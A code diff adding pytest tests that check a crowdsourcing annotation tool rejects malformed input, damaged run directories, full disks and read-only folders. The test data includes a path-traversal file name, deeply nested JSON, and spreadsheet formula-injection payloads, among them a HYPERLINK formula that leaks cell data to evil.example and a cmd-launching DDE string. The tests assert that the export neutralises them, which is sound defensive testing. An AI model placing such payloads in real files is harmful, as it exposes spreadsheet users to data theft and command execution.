@@ -24,6 +24,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from crowdprop.cli import main
+from crowdprop.commands.replay import sample_paths
 
 from .conftest import clone, tree_digest
 
@@ -379,3 +380,381 @@ def test_answer_parser_returns_or_flags_never_raises(xml, asked):
     assert flag is None or (isinstance(flag, str) and flag and "\n" not in flag.strip())
     if flag is None and asked is not None:
         assert set(answers) == set(asked)  # accepted only when every question, and nothing else, was answered
+
+
+# ----------------------------------------------------------------------------- more init input
+def _deep(n: int = 100_000) -> str:
+    return "[" * n + "]" * n
+
+
+def _big_ids(field: str):
+    def make(tmp: Path) -> tuple[Path, Path]:
+        preds = [_pred(i, id=i + 1) for i in range(6)]
+        gt = _gt()
+        if field == "prediction id":
+            preds[3]["id"] = 2 ** 64
+        else:
+            gt["annotations"][0]["id"] = 2 ** 64
+        return _write(tmp / "pp.json", preds), _write(tmp / "gg.json", gt)
+    return make
+
+
+def _write(path: Path, obj) -> Path:
+    path.write_text(obj if isinstance(obj, str) else json.dumps(obj))
+    return path
+
+
+def _files(preds=None, gt=None, config=None):
+    def make(tmp: Path):
+        pp = _write(tmp / "pp.json", preds if preds is not None else [_pred(i) for i in range(6)])
+        gg = _write(tmp / "gg.json", gt if gt is not None else _gt())
+        if config is None:
+            return pp, gg
+        return pp, gg, _write(tmp / "c.toml", config)
+    return make
+
+
+_OWNED_BY_MASKS = pytest.mark.xfail(strict=True, reason="ids are parsed in crowdprop/masks/coco.py, which has no "
+                                    "int64 range check yet (OverflowError)")
+MORE_INIT_CASES = [
+    # (id, files maker -> (predictions, gt[, config]), extra options, words)
+    ("gt file_name climbs out of --images",
+     _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12, "file_name": "../../secret/key.jpg"},
+                           {"id": 2, "height": 10, "width": 12}])), [],
+     ["gg.json", "images[0] (id=1)", "field 'file_name'", "'..'"]),
+    ("gt file_name a hidden climb", _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12},
+                                                          {"id": 2, "height": 10, "width": 12,
+                                                           "file_name": "a/../../b.jpg"}])), [],
+     ["gg.json", "images[1] (id=2)", "field 'file_name'"]),
+    ("gt image of 60000 x 60000 pixels", _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12},
+                                                               {"id": 2, "height": 60000, "width": 60000}])), [],
+     ["gg.json", "images[1] (id=2)", "field 'height/width'", "60,000 x 60,000", "178,956,970"]),
+    ("predictions nested 100000 deep", _files(preds=_deep()), [], ["pp.json", "nested too deeply"]),
+    ("ground truth nested 100000 deep", _files(gt=_deep()), [], ["gg.json", "nested too deeply"]),
+    ("config TOML nested 100000 deep", _files(config="a = " + _deep()), [], ["c.toml", "nested too deeply"]),
+    ("--seed -1", _files(), ["--seed", "-1"], ["command line", "field '--seed'", ">= 0"]),
+    pytest.param("prediction id 2**64", _big_ids("prediction id"), [], ["pp.json", "record 3", "field 'id'"],
+                 marks=_OWNED_BY_MASKS, id="prediction id 2**64"),
+    pytest.param("ground-truth annotation id 2**64", _big_ids("annotation id"), [],
+                 ["gg.json", "annotations[0]", "field 'id'"], marks=_OWNED_BY_MASKS,
+                 id="ground-truth annotation id 2**64"),
+]
+
+
+@pytest.mark.parametrize("name, make, extra, words", [c if hasattr(c, "marks") else pytest.param(*c, id=c[0])
+                                                      for c in MORE_INIT_CASES])
+def test_init_and_replay_refuse_more_bad_input_in_one_line(tmp_path, capsys, name, make, extra, words):
+    files = make(tmp_path)
+    args = ["--predictions", str(files[0]), "--gt", str(files[1])]
+    if len(files) > 2:
+        args += ["--config", str(files[2])]
+    for cmd in (["init", str(tmp_path / "run")], ["replay", "--run-dir", str(tmp_path / "run"), "--crowd",
+                                                     "simulated"]):
+        line = one_line_exit_2(capsys, [*cmd, *args, *extra])
+        for w in words:
+            assert w in line, line
+        assert not (tmp_path / "run").exists()
+        assert not any(p.name.startswith(".") for p in tmp_path.iterdir())
+
+
+def test_gold_import_refuses_deeply_nested_json(tmp_path, capsys, run_copy_src):
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    before = tree_digest(run)
+    line = one_line_exit_2(capsys, ["gold", "import", str(run), str(_write(tmp_path / "g.json", _deep()))])
+    assert "g.json" in line and "nested too deeply" in line
+    assert tree_digest(run) == before
+
+
+# ----------------------------------------------------------------------------- a damaged run directory
+def _rewrite(rel: str, **columns):
+    """Rewrite one Parquet file of the run directory with some columns replaced (as a foreign tool would)."""
+    def damage(run: Path) -> None:
+        df = pd.read_parquet(run / rel)
+        for col, f in columns.items():
+            df[col] = f(df[col])
+        df.to_parquet(run / rel)
+    return damage
+
+
+def _cut(rel: str, keep: int = 100):
+    def damage(run: Path) -> None:
+        (run / rel).write_bytes((run / rel).read_bytes()[:keep])
+    return damage
+
+
+def _text(rel: str, text: str):
+    return lambda run: (run / rel).write_text(text)
+
+
+def _remove(*rels: str):
+    def damage(run: Path) -> None:
+        for rel in rels:
+            (run / rel).unlink()
+    return damage
+
+
+def _money_as_text(run: Path) -> None:
+    path = run / "state/round=00001/spend.parquet"
+    df = pd.read_parquet(path)
+    col = "cents" if "cents" in df else "usd"
+    df[col] = df[col].astype(str)
+    df.to_parquet(path)
+
+
+def _mturk_crowd(run: Path) -> None:
+    _set_crowd(run, {"kind": "mturk", "target": "sandbox"})
+
+
+R1 = "state/round=00001"
+DAMAGE_CASES = [
+    # (id, damage, command line after the command name and RUN_DIR, words)
+    ("answers.parquet cut short", _cut(f"{R1}/answers.parquet"), ["report"],
+     ["answers.parquet", "unreadable Parquet file", "restore"]),
+    ("masks.parquet cut short", _cut("masks.parquet"), ["status"], ["masks.parquet", "unreadable Parquet file"]),
+    ("masks.parquet not Parquet at all", _text("masks.parquet", "id,rle\n1,xyz\n"), ["run", "--rounds", "1"],
+     ["masks.parquet", "unreadable Parquet file"]),
+    ("trees cut short", _cut("trees/nodes.parquet"), ["report"], ["nodes.parquet", "unreadable Parquet file"]),
+    ("campaign.json is []", _text("campaign.json", "[]"), ["run", "--rounds", "1"],
+     ["campaign.json", "expected a JSON object", "list"]),
+    ("campaign.json is {}", _text("campaign.json", "{}"), ["report"], ["campaign.json", "field 'campaign_id'"]),
+    ("campaign.json without a crowd", _text("campaign.json", '{"campaign_id": "x"}'), ["run", "--rounds", "1"],
+     ["campaign.json", "field 'crowd'"]),
+    ("campaign.json nested 100000 deep", _text("campaign.json", _deep()), ["status"],
+     ["campaign.json", "nested too deeply"]),
+    ("config.json nested 100000 deep", _text("config.json", _deep()), ["run", "--rounds", "1"],
+     ["config.json", "nested too deeply"]),
+    ("spend as text", _money_as_text, ["status"], ["spend.parquet", "expected", "values, found"]),
+    ("masks score as text", _rewrite("masks.parquet", score=lambda c: c.astype(str)), ["run", "--rounds", "1"],
+     ["masks.parquet", "field 'score'", "expected number"]),
+    ("masks rle as numbers", _rewrite("masks.parquet", rle=lambda c: np.arange(len(c))), ["report", "--html"],
+     ["masks.parquet", "field 'rle'", "expected text"]),
+    ("golds label as text", _rewrite("golds.parquet", label=lambda c: np.where(c > 0, "yes", "no")),
+     ["run", "--rounds", "1"], ["golds.parquet", "field 'label'", "expected integer"]),
+    ("answers worker ids as numbers", _rewrite(f"{R1}/answers.parquet", worker_id=lambda c: np.arange(len(c))),
+     ["export", "--answers", "ANSWERS"], ["answers.parquet", "field 'worker_id'", "expected text"]),
+    ("round without spend.parquet", _remove(f"{R1}/spend.parquet"), ["status"],
+     ["round=00001", "field 'spend.parquet'", "missing from committed round 1"]),
+    ("round without spend.parquet nor its marker", _remove(f"{R1}/spend.parquet", f"{R1}/_COMPLETE"),
+     ["run", "--rounds", "1"], ["round=00001", "field 'spend.parquet'", "missing from round 1", "restore"]),
+    ("report --seed -1", lambda run: None, ["report", "--html", "--seed", "-1"], ["field '--seed'", ">= 0"]),
+    ("status --watch inf", lambda run: None, ["status", "--watch", "inf"], ["field '--watch'", "inf"]),
+    ("status --watch nan", lambda run: None, ["status", "--watch", "nan"], ["field '--watch'", "nan"]),
+    ("status --watch 0", lambda run: None, ["status", "--watch", "0"], ["field '--watch'"]),
+    ("--profile nope", _mturk_crowd, ["run", "--profile", "nope", "--endpoint-url", "http://127.0.0.1:9"],
+     ["field '--profile'", "no AWS profile 'nope'"]),
+]
+
+
+@pytest.mark.parametrize("name, damage, argv, words", DAMAGE_CASES, ids=[c[0] for c in DAMAGE_CASES])
+def test_a_damaged_run_directory_or_bad_option_is_one_line_and_changes_nothing(tmp_path, capsys, run_copy_src, name,
+                                                                               damage, argv, words):
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    damage(run)
+    before = tree_digest(run)
+    argv = [a.replace("ANSWERS", str(tmp_path / "a.csv")) for a in argv]
+    line = one_line_exit_2(capsys, [argv[0], str(run), *argv[1:]])
+    for w in words:
+        assert w in line, line
+    assert tree_digest(run) == before
+    assert not (tmp_path / "a.csv").exists()
+
+
+def test_a_round_that_lost_its_marker_counts_and_gets_it_back(tmp_path, capsys, run_copy_src):
+    """A copy that skipped empty files loses _COMPLETE: the round is still committed (every table is there),
+    not a permanent 'round 1 is already committed'."""
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    (run / R1 / "_COMPLETE").unlink()
+    assert main(["status", str(run), "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["last_round"] == 1  # read-only commands count it
+    assert main(["run", str(run), "--rounds", "1"]) == 0, capsys.readouterr()
+    assert (run / R1 / "_COMPLETE").exists()  # put back
+    from crowdprop.campaign.store import RunDir
+
+    assert RunDir(run).rounds() == [1, 2]  # and the campaign went on with round 2
+
+
+# ----------------------------------------------------------------------------- the machine: full disk, read-only
+def _disk_full_after(monkeypatch, n_ok: int) -> list[str]:
+    """Every atomic write of crowdprop after the first ``n_ok`` fails with ENOSPC halfway through
+    (some bytes already in its temporary file), as on a disk that fills up. Returns the paths refused."""
+    import contextlib
+    import errno
+
+    from crowdprop import io as cio
+
+    real = cio.atomic_path
+    refused: list[str] = []
+    calls = [0]
+
+    @contextlib.contextmanager
+    def full(path):
+        calls[0] += 1
+        with real(path) as tmp:
+            if calls[0] > n_ok:
+                tmp.write_bytes(b"PAR1 half a file")
+                refused.append(str(path))
+                raise OSError(errno.ENOSPC, "No space left on device", str(path))
+            yield tmp
+
+    monkeypatch.setattr(cio, "atomic_path", full)
+    return refused
+
+
+def _writes_of_a_round(tmp_path, monkeypatch, src) -> int:
+    """How many atomic writes one round of ``src`` makes (on a copy)."""
+    from crowdprop import io as cio
+
+    run = tmp_path / "count"
+    shutil.copytree(src, run)
+    real, n = cio.atomic_path, [0]
+
+    def counting(path):
+        n[0] += 1
+        return real(path)
+
+    with monkeypatch.context() as m:
+        m.setattr(cio, "atomic_path", counting)
+        assert main(["run", str(run), "--rounds", "1"]) == 0
+    return n[0]
+
+
+def test_a_full_disk_is_one_line_and_the_campaign_goes_on_once_there_is_space(tmp_path, capsys, monkeypatch,
+                                                                              run_copy_src):
+    from crowdprop.campaign.store import RunDir
+
+    writes = _writes_of_a_round(tmp_path, monkeypatch, run_copy_src.path)
+    assert writes >= 8  # the round's tables and its marker at least
+    for n_ok in (0, writes // 2, writes - 1):  # the disk fills before the round, in its middle, at its commit
+        run = tmp_path / f"run{n_ok}"
+        shutil.copytree(run_copy_src.path, run)
+        with monkeypatch.context() as m:
+            refused = _disk_full_after(m, n_ok)
+            line = one_line_exit_2(capsys, ["run", str(run), "--rounds", "1"])
+        assert refused and "No space left on device" in line and "the disk is full" in line, (n_ok, line)
+        assert not list(run.rglob("*.tmp"))  # no half-written file under its name or a temporary one
+        assert RunDir(run).rounds() == [1]  # round 2 was not committed half
+        assert main(["run", str(run), "--rounds", "1"]) == 0, capsys.readouterr()
+        assert RunDir(run).rounds() == [1, 2]  # and goes on once there is space
+
+
+def test_report_and_gold_import_on_a_full_disk(tmp_path, capsys, monkeypatch, run_copy_src):
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    before = tree_digest(run)
+    _disk_full_after(monkeypatch, 0)
+    line = one_line_exit_2(capsys, ["report", str(run)])
+    assert "report.json" in line and "No space left on device" in line
+    (tmp_path / "g.csv").write_text("mask_id,label\n3,yes\n")
+    line = one_line_exit_2(capsys, ["gold", "import", str(run), str(tmp_path / "g.csv")])
+    assert "golds.parquet" in line and "the disk is full" in line
+    assert tree_digest(run) == before
+
+
+@pytest.fixture
+def read_only(tmp_path):
+    """Make a folder read-only for real: without write permission (an ordinary user), or as a
+    read-only bind mount (root, whom permissions do not stop)."""
+    import os
+    import subprocess
+
+    done = []
+
+    def make(path: Path) -> Path:
+        if os.geteuid() != 0:
+            for p in [path, *path.rglob("*")]:
+                p.chmod(p.stat().st_mode & ~0o222)
+            done.append(("chmod", path))
+            return path
+        view = path.parent / (path.name + "-ro")
+        view.mkdir()
+        ok = subprocess.run(["mount", "--bind", str(path), str(view)], capture_output=True).returncode == 0
+        if ok and subprocess.run(["mount", "-o", "remount,ro,bind", str(view)], capture_output=True).returncode == 0:
+            done.append(("mount", view))
+            return view
+        if ok:
+            subprocess.run(["umount", str(view)])
+        pytest.skip("running as root without the right to mount a read-only view")
+
+    yield make
+    for how, path in done:
+        if how == "mount":
+            subprocess.run(["umount", str(path)], check=True)
+        else:
+            for p in [path, *path.rglob("*")]:
+                p.chmod(p.stat().st_mode | 0o200)
+
+
+def test_a_read_only_run_directory_is_one_line_and_reading_commands_still_work(tmp_path, capsys, run_copy_src,
+                                                                               read_only):
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    ro = read_only(run)
+    before = tree_digest(ro)
+    (tmp_path / "g.csv").write_text("mask_id,label\n3,yes\n")
+    for argv in (["run", str(ro), "--rounds", "1"], ["report", str(ro)], ["gold", "import", str(ro),
+                                                                          str(tmp_path / "g.csv")]):
+        line = one_line_exit_2(capsys, argv)
+        assert "Read-only file system" in line or "Permission denied" in line, line
+        assert "cannot write there" in line
+    assert main(["status", str(ro)]) == 0  # reading needs no write
+    assert main(["export", str(ro), "-o", str(tmp_path / "accepted.json")]) == 0
+    capsys.readouterr()
+    assert tree_digest(ro) == before
+
+
+# ----------------------------------------------------------------------------- exported CSV opened in a spreadsheet
+HOSTILE_WORKERS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+                   "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def test_exported_answers_cannot_run_as_spreadsheet_formulas(tmp_path, capsys, run_copy_src):
+    import csv
+
+    run = tmp_path / "run"
+    shutil.copytree(run_copy_src.path, run)
+    path = run / R1 / "answers.parquet"
+    ans = pd.read_parquet(path)
+    workers = sorted(ans["worker_id"].unique())
+    assert len(workers) > len(HOSTILE_WORKERS)
+    rename = dict(zip(workers, HOSTILE_WORKERS))  # the ids MTurk's API handed over, stored as they came
+    ans["worker_id"] = ans["worker_id"].map(lambda w: rename.get(w, w))
+    ans.to_parquet(path)
+    out = tmp_path / "answers.csv"
+    assert main(["export", str(run), "--answers", str(out), "--golds", str(tmp_path / "golds.csv")]) == 0
+    capsys.readouterr()
+    with open(out, newline="") as f:
+        rows = list(csv.DictReader(f))
+    got = {r["worker"] for r in rows}
+    for w in HOSTILE_WORKERS:
+        assert "'" + w in got and w not in got  # prefixed, shown by a spreadsheet as text
+    benign = set(workers[len(HOSTILE_WORKERS):])
+    assert benign <= got  # ordinary ids unchanged
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
+    used = ans[ans["used"].astype(bool)]
+    assert len(rows) == len(used.drop_duplicates(["mask_row", "worker_id"]))  # nothing dropped
+    # the file still aggregates: one worker per prefixed id, the same labels
+    assert main(["aggregate", str(out), "-o", str(tmp_path / "labels.csv")]) == 0
+    assert f"{len(set(used['worker_id']))} workers" in capsys.readouterr().out
+
+
+# ----------------------------------------------------------------------------- a campaign's name is only a name
+def test_a_campaign_named_manual_is_answered_by_the_simulated_workers(tmp_path, capsys):
+    """The local endpoint leaves HITs whose annotation says "manual" for a browser; a crowdprop
+    campaign's annotation carries its name, so `[campaign] name = "manual check"` used to leave
+    every HIT of a replay unanswered until the round timed out (a day per round by default)."""
+    from crowdprop.campaign.store import RunDir
+
+    preds, gt, config = sample_paths()
+    toml = tmp_path / "c.toml"
+    toml.write_text(open(config).read() + '\n[campaign]\nname = "Manual check of the fake results"\nmax_rounds = 1\n'
+                    "[crowd]\nround_timeout_s = 20\npoll_interval_s = 0.2\n")
+    assert main(["replay", "--config", str(toml), "--run-dir", str(tmp_path / "run"), "--predictions", preds,
+                 "--gt", gt]) == 0
+    capsys.readouterr()
+    rd = RunDir(tmp_path / "run")
+    hits, ans = rd.read_rounds("hits"), rd.read_rounds("answers")
+    assert len(hits) > 0 and (hits["n_submitted"] == hits["assignments"]).all()  # every HIT answered
+    assert len(ans) == len(rd.read_rounds("questions"))
